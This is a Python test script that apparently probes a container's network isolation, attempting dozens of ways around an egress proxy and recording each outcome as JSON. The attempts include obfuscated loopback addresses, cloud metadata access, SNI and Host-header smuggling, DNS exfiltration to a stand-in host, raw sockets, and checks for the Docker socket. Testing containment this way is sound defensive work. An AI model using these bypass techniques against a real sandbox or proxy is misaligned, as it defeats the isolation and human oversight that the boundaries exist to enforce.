"""Runs inside a container, with nothing but Python: each attempt to get out, and what came of it, as JSON."""

import base64
import json
import os
import socket
import ssl
import sys
from collections.abc import Callable
from pathlib import Path

FACTS = json.loads(sys.argv[1])
MACHINE, PORT, SECRET = FACTS["machine"], FACTS["port"], FACTS["secret"]
PROXY = ("127.0.0.1", 3128)
USERINFO = os.environ.get("http_proxy", "http://nobody:none@x").split("//")[1].split("@")[0]
TOKEN = f"Proxy-Authorization: Basic {base64.b64encode(USERINFO.encode()).decode()}\r\n"


def asked(request: str, auth: str = TOKEN) -> str:
    """The status of the proxy's answer to a raw request; `{auth}` in it is replaced."""
    with socket.create_connection(PROXY, 5) as connection:
        connection.settimeout(12)
        connection.sendall(request.replace("{auth}", auth).encode("latin-1"))
        answer = connection.recv(4096).decode("latin-1")
    status = answer.partition(" ")[2][:20] if answer.startswith("HTTP/1.1 ") else answer
    return f"REACHED {status}" if status.startswith("200") else status


def connect(target: str, auth: str = TOKEN) -> str:
    """The status of the answer to CONNECT."""
    return asked(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n{{auth}}\r\n", auth)


def tunnel() -> socket.socket:
    """A granted tunnel to the allowed host."""
    connection = socket.create_connection(PROXY, 5)
    connection.settimeout(12)
    connection.sendall(f"CONNECT {MACHINE}:{PORT} HTTP/1.1\r\n{TOKEN}\r\n".encode())
    assert connection.recv(4096).startswith(b"HTTP/1.1 200"), "no tunnel"
    return connection


def in_tunnel(data: bytes) -> str:
    """What comes back when `data` is the first thing in a tunnel."""
    with tunnel() as connection:
        connection.sendall(data)
        try:
            answer = connection.recv(4096)
        except ConnectionResetError:
            return "closed"
    return f"REACHED {answer!r}" if answer else "closed"


def with_sni(name: str | None) -> str:
    """What comes of a TLS handshake in the tunnel that asks for another server, or for none."""
    context = ssl._create_unverified_context()
    with tunnel() as connection:
        try:
            with context.wrap_socket(connection, server_hostname=name) as secured:
                secured.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
                return f"REACHED {secured.recv(100)!r}"
        except (ssl.SSLError, OSError):
            return "closed"


def direct(host: str, port: int, kind: int = socket.SOCK_STREAM, family: int = socket.AF_INET) -> str:
    """What comes of a connection without the proxy."""
    try:
        with socket.socket(family, kind) as connection:
            connection.settimeout(3)
            connection.connect((host, port))
            connection.send(b"x")
    except OSError as error:
        return f"unreachable: {error}"
    return "REACHED"


def looked_up(name: str) -> str:
    """What comes of a name that only a name server knows."""
    try:
        return f"REACHED {socket.gethostbyname(name)}"
    except OSError as error:
        return f"unreachable: {error}"


def at_loopback(data: bytes | None, name: str | None = None) -> str:
    """What comes of bytes, or of a TLS handshake for a name, at the port where allowed names are answered."""
    with socket.create_connection(("127.0.0.1", 443), 5) as connection:
        connection.settimeout(12)
        try:
            if data is None:
                with ssl._create_unverified_context().wrap_socket(connection, server_hostname=name) as secured:
                    return f"REACHED {secured.version()}"
            connection.sendall(data)
            answer = connection.recv(100)
        except (ssl.SSLError, OSError):
            return "closed"
    return f"REACHED {answer!r}" if answer else "closed"


def proxy_process() -> str:
    """Whether the process that serves the proxy can be seen, by its socket or by its command line."""
    sockets = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    served = {f"socket:[{fields[9]}]" for fields in sockets if fields[1].endswith(f":{PROXY[1]:04X}")}
    for process in Path("/proc").glob("[0-9]*"):
        if b"manage.py" in (process / "cmdline").read_bytes() or b"pytest" in (process / "cmdline").read_bytes():
            return f"REACHED {process}"
        if any(str(link.readlink()) in served for link in (process / "fd").iterdir() if link.is_symlink()):
            return f"REACHED {process}"
    return "unreachable"


def raw_socket() -> str:
    """Whether packets can be forged."""
    try:
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()
    except OSError as error:
        return f"unreachable: {error}"
    return "REACHED"


def route_added() -> str:
    """Whether an interface of our own can be brought up by the kernel's route socket."""
    import fcntl
    import struct

    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            fcntl.ioctl(probe, 0x890B, struct.pack("120x"))
    except OSError as error:
        return f"unreachable: {error}"
    return "REACHED"


GET = "HTTP/1.1\r\nHost: {host}\r\n{{auth}}\r\n"
PROXIED: dict[str, Callable[[], str]] = {
    "refused by rule: another name": lambda: connect("evil.test:443"),
    "refused by rule: allowed name, port 22": lambda: connect(f"{MACHINE}:22"),
    "refused by rule: allowed name, default port": lambda: connect(f"{MACHINE}:443"),
    "refused by rule: the secret server's port": lambda: connect(f"{MACHINE}:{SECRET}"),
    "refused by rule: loopback address": lambda: connect(f"127.0.0.1:{SECRET}"),
    "refused by rule: loopback address, tls": lambda: connect("127.0.0.1:443"),
    "refused by rule: ipv6 loopback": lambda: connect("[::1]:443"),
    "refused by rule: mapped loopback": lambda: connect("[::ffff:127.0.0.1]:443"),
    "refused by rule: metadata": lambda: connect("169.254.169.254:443"),
    "refused by rule: decimal address": lambda: connect("2130706433:443"),
    "refused by rule: short address": lambda: connect("127.1:443"),
    "refused by rule: hexadecimal address": lambda: connect("0x7f000001:443"),
    "refused by rule: private name that is listed": lambda: connect("localhost:443"),
    "refused by rule: suffix trick": lambda: connect(f"{MACHINE}.evil.test:{PORT}"),
    "refused by rule: the machine's own address": lambda: connect(f"{FACTS['lan']}:443"),
    "refused by rule: listed address, other port": lambda: connect("8.8.8.8:53"),
    "refused by rule: plain http to another name": lambda: asked(
        f"GET http://evil.test/ {GET.format(host='evil.test')}"
    ),
    "refused by rule: plain http, other host header": lambda: asked(
        f"GET http://{MACHINE}:{PORT}/ {GET.format(host='evil.test')}"
    ),
    "refused for its form: host twice": lambda: asked(
        f"GET http://{MACHINE}:{PORT}/ HTTP/1.1\r\nHost: {MACHINE}\r\nHost: evil.test\r\n{{auth}}\r\n"
    ),
    "refused for its form: origin form": lambda: asked(f"GET / {GET.format(host=MACHINE)}"),
    "refused for its form: userinfo": lambda: connect(f"{MACHINE}:{PORT}@evil.test:443"),
    "refused without a token": lambda: connect(f"{MACHINE}:{PORT}", auth=""),
    "refused without a token: a wrong one": lambda: connect(
        f"{MACHINE}:{PORT}", auth="Proxy-Authorization: Basic cGllcjp4\r\n"
    ),
    "closed in the tunnel: sni of another name": lambda: with_sni("evil.test"),
    "closed in the tunnel: no sni": lambda: with_sni(None),
    "closed in the tunnel: not tls": lambda: in_tunnel(b"SSH-2.0-OpenSSH_9.2\r\n\r\n\r\n\r\n"),
    "closed at the loopback: tls for another name": lambda: at_loopback(None, "evil.test"),
    "closed at the loopback: tls for the allowed name, whose port is another": lambda: at_loopback(None, MACHINE),
    "closed at the loopback: tls for no name": lambda: at_loopback(None),
    "closed at the loopback: tls for an address": lambda: at_loopback(None, "127.0.0.1"),
    "closed at the loopback: not tls": lambda: at_loopback(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    "closed in the tunnel: plain request for another host": lambda: in_tunnel(
        b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    ),
}
DIRECT: dict[str, Callable[[], str]] = {
    "direct: the machine's loopback": lambda: direct("127.0.0.1", SECRET),
    "direct: outside": lambda: direct("8.8.8.8", 443),
    "direct: metadata": lambda: direct("169.254.169.254", 80),
    "direct: the engine's bridge": lambda: direct("172.17.0.1", SECRET),
    "direct: the machine's own address": lambda: direct(FACTS["lan"], SECRET),
    "direct: udp 53": lambda: direct("8.8.8.8", 53, socket.SOCK_DGRAM),
    "direct: ipv6": lambda: direct("2001:4860:4860::8888", 443, family=socket.AF_INET6),
    "direct: multicast": lambda: direct("ff02::1", 5353, socket.SOCK_DGRAM, socket.AF_INET6),
    "direct: a name": lambda: looked_up("example.com"),
    "direct: a name that says something": lambda: looked_up("what-i-know.evil.test"),
    "direct: the engine's resolver": lambda: direct("127.0.0.11", 53),
    "direct: raw packets": raw_socket,
    "direct: a route": route_added,
    "direct: the proxy's process": proxy_process,
    "direct: the engine's socket": lambda: "REACHED" if Path("/var/run/docker.sock").exists() else "unreachable",
}

outcomes = {}
for attack, attempt in {**(PROXIED if "http_proxy" in os.environ else {}), **DIRECT}.items():
    try:
        outcomes[attack] = attempt()
    except OSError as error:
        outcomes[attack] = f"error: {error}"
outcomes["interfaces"] = " ".join(sorted(path.name for path in Path("/sys/class/net").iterdir()))
outcomes["name servers"] = Path("/etc/resolv.conf").read_text().strip()
sys.stdout.write(json.dumps(outcomes))
